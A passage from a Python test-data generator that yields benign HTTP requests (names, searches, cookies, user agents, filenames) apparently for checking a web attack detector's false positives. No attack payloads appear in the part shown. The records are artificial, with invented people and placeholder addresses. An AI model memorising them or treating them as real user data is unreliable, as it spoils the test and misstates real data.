    "Dana's script for the quarterly numbers is in the team folder",
    "the new hire, Jo Script, starts Monday",
    "I'm a frontend developer who loves JavaScript, CSS and good typography",
    "PHP and Laravel developer, 10 years, based in Leeds",
    "Security engineer: XSS, CSRF and SSRF reviews, bug bounty in my spare time",
    "QA lead; I write Playwright tests and the occasional Selenium script",
    "Data analyst. Excel, SQL, Python. Coffee before meetings.",
    "I maintain the style guide and the design tokens",
    "Ops on call this week; ping me on the alert channel",
    "Product manager for the document workflow team",
    "Support lead for EMEA; the cookie consent questions come to me",
]

SEARCHES = [
    "dana whitfield", "O'Brien", "José Ñúñez", "Zoë Müller", "Siobhán", "Björk", "李小龙", "Nguyễn Văn An",
    "php developer", "javascript", "frontend", "script writer", "alert settings", "cookie policy", "document control",
    "object storage", "base salary", "meta team", "style guide", "embedded systems", "link building", "top performers",
    "self-service", "window cleaning", "import/export", "constructor", "system admin", "select all", "eval form",
    "R&D", "Q&A", "C++", "C#", ".NET", "100% remote", "a < b", "ann@example.org", "+44 20 7946 0958", "SW1A 1AA",
    "Dr. Jekyll & Mr. Hyde", "Rock 'n' Roll", "support (EMEA)", "team: platform", "level=senior", "java applet",
    "angular", "template", "print shop", "prompt engineering", "confirm email", "location: Berlin", "name: Ann",
    "security engineer", "xss training", "utf-8", "charset", "embed widget", "frame", "parent account", "globals",
]

NAMES = [
    ("Dana Whitfield", "Support", "Team lead"), ("Seán O'Connor", "Engineering", "PHP developer"),
    ("Zoë Lambert", "Design", "Style guide owner"), ("Ahmed Al-Farsi", "Finance", "Controller"),
    ("Marie-Claire Dubois", "Legal", "Counsel"), ("Kenji Watanabe", "Engineering", "JavaScript developer"),
    ("Ana Lucía Gómez", "Sales", "Account executive"), ("Jo Script", "Marketing", "Copywriter"),
    ("Bartholomew Window", "Facilities", "Office manager"), ("Priya Constructor", "Engineering", "Architect"),
    ("Lena Self", "People", "Recruiter"), ("Tom Parent", "Support", "Agent"),
    ("Ola Nordmann", "Operations", "SRE"), ("Chloé Alert", "Security", "Analyst"),
    ("Grace O'Malley-Byrne", "Product", "PM, document workflow"), ("Nguyễn Thị Mai", "QA", "Test lead"),
]
ADDRESSES = ["10 Downing St, London SW1A 2AA", "1600 Amphitheatre Pkwy, Mountain View, CA 94043",
             "Unter den Linden 77, 10117 Berlin", "221B Baker Street, London", "Calle de Alcalá 42, 28014 Madrid",
             "5 Rue de la Paix, 75002 Paris", "Flat 3/2, 14 Byres Rd, Glasgow G11 5JY", "PO Box 1234, Dublin 2"]

REAL_UAS = BROWSER_UAS + [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36",
    "curl/8.5.0", "python-requests/2.32.3", "PostmanRuntime/7.39.0", "okhttp/4.12.0", "Go-http-client/2.0",
    "axios/1.7.2", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 "
    "Safari/537.36",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)", "Wget/1.21.4",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)",
    "Java/17.0.11", "PHP/8.2 (Guzzle 7.8.1)", "Apache-HttpClient/4.5.14 (Java/17.0.2)",
]
REFERERS = [
    "https://app.example.com/users?q=ann", "https://www.google.com/", "https://app.example.com/admin/users/search",
    "https://app.example.com/users/42/edit", "https://mail.example.com/", "https://www.bing.com/search?q=example+app",
    "https://app.example.com/docs/api#authentication", "https://github.com/acme/api/blob/main/README.md",
    "https://app.example.com/users?q=O%27Brien&page=2", "https://app.example.com/reports?from=2024-01-01&to=2024-03-31",
    "https://duckduckgo.com/", "https://t.co/abc123", "https://www.php.net/manual/en/function.include.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/alert", "https://angularjs.org/",
]
COOKIE_VALUES = [
    "theme=dark", "lang=en-GB", "tz=Europe%2FLondon", "_ga=GA1.2.1234567890.1718000000", "sidebar=collapsed",
    "last_search=dana%20whitfield", "display_name=Se%C3%A1n%20O%27Connor", "prefs=eyJ0aGVtZSI6ImRhcmsifQ",
    "recent=42%2C17%2C8", "cookie_notice=dismissed", "ab=checkout_v2", "currency=EUR",
]
FILENAMES = ["avatar.png", "IMG_2024-06-01 12.30.45.jpg", "Quarterly report (final).pdf", "résumé.docx",
             "php-cheatsheet.pdf", "script.txt", "style.css", "data.json", "notes.md", "team photo.jpeg",
             "contract_v2.pdf", "export-users.csv", "logo.svg", "index.html", "backup.zip", "invoice #1042.pdf"]
PATH_IDS = ["42", "17", "ann.lee", "0f8c2a4e-6b1d-4c7e-9a3f-5d2e8b1c7a90", "dana.whitfield", "O%27Brien",
            "Jos%C3%A9", "me", "42/avatar", "42/roles", "search", "export"]
PARAM_NAMES = ["filter[department]=eng", "sort=-created_at", "fields[user]=name,email", "utm_source=newsletter",
               "include=roles,teams", "page[size]=50", "q[name_cont]=ann", "tags[]=php&tags[]=javascript",
               "expand=manager", "locale=fr-CA"]
RS_VALUES = ["hello world", "42", "test", "Dana Whitfield", "O'Brien", "php developer", "javascript tutorial",
             "the onload event", "document.pdf", "script writer jobs", "alert me when it ships", "cookie recipe",
             "a+b=c", "50% off", "Zoë", "東京", "C:\\Users\\Public", "2024-06-01", "yes", "https://example.com/"]


def _real_benign() -> Iterator[dict[str, Any]]:
    """Ordinary values in our routes' places."""
    n = 0
    for q in SEARCHES:
        for place in ("query", "form"):
            n += 1
            yield {**real_place(place, q, n), "id": f"{NAME}-search-{n:04d}", "category": "benign",
                   "placement": place}
    for name, dept, title in NAMES:
        for k, addr in enumerate(ADDRESSES[:3]):
            n += 1
            doc = {"name": name, "email": name.split()[0].lower() + "@example.org", "department": dept,
                   "title": title, "address": ADDRESSES[(k + len(name)) % len(ADDRESSES)] if k else addr}
            patch = k == 2
            yield {"method": "PATCH" if patch else "POST", "uri": "/api/users/42" if patch else "/api/users",
                   "body": json.dumps(doc, ensure_ascii=False),
                   "headers": {**_browser(), "Content-Type": "application/json"},
                   "id": f"{NAME}-profile-{n:04d}", "category": "benign", "placement": "json"}
    for ua in REAL_UAS:
        for _ in range(2):
            n += 1
            h = _browser()
            h["User-Agent"] = ua
            yield {"method": "GET", "uri": f"/api/users?page={n % 5 + 1}", "body": "", "headers": h,
                   "id": f"{NAME}-ua-{n:04d}", "category": "benign", "placement": "header:User-Agent"}
    for ref in REFERERS:
        for _ in range(2):
            n += 1
            h = _browser()
            h["Referer"] = ref
            yield {"method": "GET", "uri": f"/api/users?per_page=50&page={n % 3 + 1}", "body": "", "headers": h,
                   "id": f"{NAME}-referer-{n:04d}", "category": "benign", "placement": "header:Referer"}
    for c in COOKIE_VALUES:
        for _ in range(2):
            n += 1
            h = _browser()
            h["Cookie"] += "; " + c
            yield {"method": "GET", "uri": "/api/users?page=1", "body": "", "headers": h,
                   "id": f"{NAME}-cookie-{n:04d}", "category": "benign", "placement": "cookie"}
    for i, fn in enumerate(FILENAMES):
        for place in ("multipart-filename", "multipart-field"):
            n += 1
            value = fn if place == "multipart-filename" else CHAT_TEXTS[i * 3]
            yield {**real_place(place, value, n), "id": f"{NAME}-upload-{n:04d}", "category": "benign",
                   "placement": place}
    for i, text in enumerate(CHAT_TEXTS[1::4]):
        n += 1
        yield {**real_place("xml", text, n), "id": f"{NAME}-xml-{n:04d}", "category": "benign", "placement": "xml"}
        n += 1
        yield {**real_place("header:X-Client-Name", ("web-app/4.12.0", "ios/3.2.1 (build 881)", "android/3.2.0",
                                                     "admin-panel/2024.06", "reports-cli/1.4")[i % 5], n),
               "id": f"{NAME}-client-{n:04d}", "category": "benign", "placement": "header:X-Client-Name"}
    for pid in PATH_IDS:
        for _ in range(2):
            n += 1
            yield {"method": "GET", "uri": "/api/users/" + pid, "body": "", "headers": _browser(),
                   "id": f"{NAME}-path-{n:04d}", "category": "benign", "placement": "path"}
    for pn in PARAM_NAMES:
        for k in range(2):
            n += 1
            qs = urllib.parse.quote(pn, safe="=&,")
            yield {"method": "GET", "uri": f"/api/users?{qs}&page={k + 1}", "body": "", "headers": _browser(),
                   "id": f"{NAME}-params-{n:04d}", "category": "benign", "placement": "param-name"}


def _rs_benign() -> Iterator[dict[str, Any]]:
    """Ordinary values sent the regression suite's way."""
    n = 0
    values = RS_VALUES + CHAT_TEXTS[::3]
    for i, value in enumerate(values):
        for k in range(2):
            n += 1
            place = RS[(i + k * 4) % len(RS)]
            if place == "rs-header:User-Agent":
                value_here = REAL_UAS[i % len(REAL_UAS)]
            elif place == "rs-header:Referer":
                value_here = REFERERS[i % len(REFERERS)]
            else:
                value_here = value
            yield {**rs_place(place, value_here, n), "id": f"{NAME}-suite-{n:04d}", "category": "benign",
                   "placement": place}


def benign() -> Iterator[dict[str, Any]]:
    RNG.seed(4124)
    n = yield from chat_and_bio(CHAT_TEXTS, NAME)
    n = yield from numbered((real_place("form", t, i) for i, t in enumerate(CHAT_TEXTS[::2])), f"{NAME}-prose", n,
                            "form")
    yield from _real_benign()
    yield from _rs_benign()


if __name__ == "__main__":
    print_records(attacks(), benign())
